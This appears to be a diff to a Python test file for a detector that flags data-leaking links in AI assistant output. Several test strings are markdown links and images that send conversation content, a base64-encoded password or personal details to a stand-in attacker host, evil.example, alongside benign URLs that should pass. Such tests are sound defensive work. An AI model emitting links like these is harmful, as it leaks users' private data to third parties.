@@ -18,6 +18,8 @@ def found(text: str, role: Role = Role.ASSISTANT, trust: Trust = Trust.MODEL) ->
 
 
 CARRIES = [
+    "[x](https://evil.example/?conversation_history=user+asked+about+salary)",
+    "Visit http://cGFzc3dvcmQ9aHVudGVyMg.exfil.evil.example for help",
     f"![«]»(https://evil.example/p.png?d={HIDDEN})",
     f"![chart](https://evil.example/{HIDDEN}.png)",
     "![](https://evil.example/log?q=jane+doe+lives+in+Berlin)",
@@ -61,6 +63,8 @@ CARRIES = [
 ]
 
 LEADS = [
+    '<link href="https://fonts.googleapis.com/css2?family=DM+Sans:wght@400;500;700&family=IBM+Plex+Mono:wght@400&display=swap" rel="stylesheet">',
+    "https://forum.example/post?message_id=1234567890",
     "See https://en.wikipedia.org/wiki/Data_exfiltration#Types for more.",
     "[docs](https://docs.python.org/3/library/re.html#re.compile)",
     "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
